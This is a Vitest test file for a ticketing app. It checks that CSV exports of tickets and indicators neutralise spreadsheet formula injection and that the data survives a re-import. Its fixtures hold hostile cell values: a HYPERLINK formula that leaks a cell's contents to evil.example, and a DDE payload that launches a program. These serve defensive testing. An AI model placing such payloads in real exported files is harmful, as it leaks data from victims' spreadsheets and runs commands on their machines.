import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { openDatabase } from '../../../electron/core/db/open';
import { indicatorsCsv, indicatorsFromStore } from '../../../electron/core/reports/indicators';
import { TicketService } from '../../../electron/core/tickets/service';
import { exportTickets, importTickets } from '../../../electron/core/tickets/transfer';
import { runCli } from '../../setup/cli';
import { tempDir } from '../../setup/temp';

/** Texts a requester can type that a spreadsheet would run as formulas, and texts that look neutralised. */
const HOSTILE_TITLES = [
  '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")',
  '-5',
  '+33 6 12 34 56 78',
  '@SUM(A1:A9)',
  "=cmd|' /C calc'!A0",
  "'=already neutralised by hand",
  "''",
  "'Tis the season",
  'a;=1+1',
  'Plain title',
];
const HOSTILE_DESCRIPTIONS = ['\tindented with a tab', '\rstarts with a carriage return', '-', '=1+1\n=2+2'];

function store(dir: string) {
  const db = openDatabase(join(dir, 'atelier.db'));
  return { db, service: new TicketService(db, () => 'camille') };
}

function seed(service: TicketService) {
  HOSTILE_TITLES.forEach((title, i) => {
    service.create({ kind: 'incident', title, description: HOSTILE_DESCRIPTIONS[i % HOSTILE_DESCRIPTIONS.length] ?? '', impact: 2, urgency: 2, requester: '@evil', asset: '=PC-0042' });
  });
}

/** Every cell of a CSV whose first character a spreadsheet reads as the start of a formula. */
function liveCells(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

describe('CSV exports carry no live formula', () => {
  it('neutralises the queue export and reads its own cells back unchanged on import', () => {
    const { db, service } = store(tempDir());
    seed(service);
    const csv = exportTickets(service, 'csv');
    expect(liveCells(csv)).toEqual([]);
    expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?leak=""&A1;""Cliquez ici"")"`);
    expect(csv).toContain(',"a;=1+1",'); // quoted: a spreadsheet splitting on ";" keeps it one cell

    const again = store(tempDir());
    expect(importTickets(again.service, 'csv', csv, false)).toMatchObject({ imported: HOSTILE_TITLES.length, problems: [] });
    const back = again.service.allTickets().map((t) => ({ title: t.title, description: t.description, requester: t.requester, asset: t.asset }));
    const sent = service.allTickets().map((t) => ({ title: t.title, description: t.description, requester: t.requester, asset: t.asset }));
    const byTitle = (a: { title: string }, b: { title: string }) => a.title.localeCompare(b.title);
    expect(back.sort(byTitle)).toEqual(sent.sort(byTitle));
    expect(back.map((t) => t.title).sort()).toEqual([...HOSTILE_TITLES].sort());
    db.close();
    again.db.close();
  });

  it('neutralises the indicators CSV (asset names come from requesters) and keeps figures as numbers', () => {
    const { db, service } = store(tempDir());
    seed(service);
    const csv = indicatorsCsv(indicatorsFromStore(db, { fromMs: Date.now() - 86_400_000, toMs: Date.now() + 86_400_000 }), 'en');
    expect(liveCells(csv)).toEqual([]);
    expect(csv).toContain("top_asset,'=PC-0042,10,");
    expect(csv).toMatch(/^backlog,total,10,$/m);
    db.close();
  });

  it('neutralises `atelier tickets export --format csv`', () => {
    const dir = tempDir();
    const { db, service } = store(dir);
    seed(service);
    db.close();
    const result = runCli(['tickets', 'export', '--format', 'csv', '--data-dir', dir], { timeoutMs: 150_000 });
    expect(result.stderr).toBe('');
    expect(result.status).toBe(0);
    expect(liveCells(result.stdout)).toEqual([]);
    expect(result.stdout).toContain("'-5");
  }, 180_000); // one `node --import tsx` start: seconds alone, much more on a busy shared machine
});
